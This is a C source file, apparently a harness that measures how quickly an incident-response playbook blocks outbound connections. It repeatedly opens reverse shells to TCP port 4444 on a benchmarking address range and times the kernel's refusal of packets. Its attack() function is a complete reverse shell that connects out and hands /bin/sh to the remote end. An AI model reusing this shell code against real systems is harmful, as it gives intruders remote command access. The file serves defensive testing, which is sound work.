/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Shells on connections to one address after another, each of its own process ancestry, and for
 * each address when the kernel first refused a packet to it: the playbook has blocked it. Prints
 * "ADDRESS MILLISECONDS" (wall clock) a line; alert.sh joins them with the alerts.
 * Usage: respond SECONDS FIRST, as a program named as one below which every process is a session of
 * its own (incident/lineage.c), where 198.18.0.0/16 answers on TCP port 4444.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define ATTACKS_MAX 5000
#define EACH_NS     100000000ll /* from one attack to the next */
#define LATEST_NS   3000000000ll
#define LOOK_US     100 /* between two packets: the resolution of what is measured */

static long long now_ns(clockid_t clock)
{
	struct timespec t;

	clock_gettime(clock, &t);
	return t.tv_sec * 1000000000ll + t.tv_nsec;
}

static in_addr_t first; /* of the addresses */

static struct sockaddr_in address(unsigned i, uint16_t port)
{
	return (struct sockaddr_in){ .sin_family = AF_INET,
				     .sin_port = htons(port),
				     .sin_addr.s_addr = htonl(ntohl(first) + i) };
}

/* Lets somebody type commands here. */
static pid_t attack(unsigned i)
{
	struct sockaddr_in to = address(i, 4444);
	pid_t pid = fork();
	int fd;

	if (pid)
		return pid;
	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(fd, (void *)&to, sizeof(to)) < 0)
		_exit(1);
	for (int n = 0; n < 3; n++)
		dup2(fd, n);
	execl("/bin/sh", "sh", (char *)NULL);
	_exit(1);
}

/* When a packet is refused, in ms of wall clock; -1: none was in time. */
static double refused_ms(int fd, unsigned i)
{
	struct sockaddr_in to = address(i, 9);
	long long end = now_ns(CLOCK_MONOTONIC) + LATEST_NS;

	while (now_ns(CLOCK_MONOTONIC) < end) {
		if (sendto(fd, "", 0, 0, (void *)&to, sizeof(to)) < 0 && errno == EPERM)
			return (double)now_ns(CLOCK_REALTIME) / 1e6;
		usleep(LOOK_US);
	}
	return -1;
}

static bool one(int fd, unsigned i)
{
	struct sockaddr_in to = address(i, 0);
	pid_t pid = attack(i);
	double ms;

	if (pid < 0)
		return false;
	ms = refused_ms(fd, i);
	kill(pid, SIGKILL);
	(void)waitpid(pid, NULL, 0);
	printf("%s %.3f\n", inet_ntoa(to.sin_addr), ms);
	return true;
}

int main(int argc, char **argv)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	long long start = now_ns(CLOCK_MONOTONIC), end;

	if (argc != 3 || fd < 0) {
		fputs("Usage: respond SECONDS FIRST\n", stderr);
		return 2;
	}
	first = inet_addr(argv[2]);
	end = start + atoi(argv[1]) * 1000000000ll;
	for (unsigned i = 0; i < ATTACKS_MAX && now_ns(CLOCK_MONOTONIC) < end; i++) {
		if (!one(fd, i))
			return 1;
		while (now_ns(CLOCK_MONOTONIC) < start + (i + 1) * EACH_NS)
			usleep(1000);
	}
	close(fd);
	return 0;
}
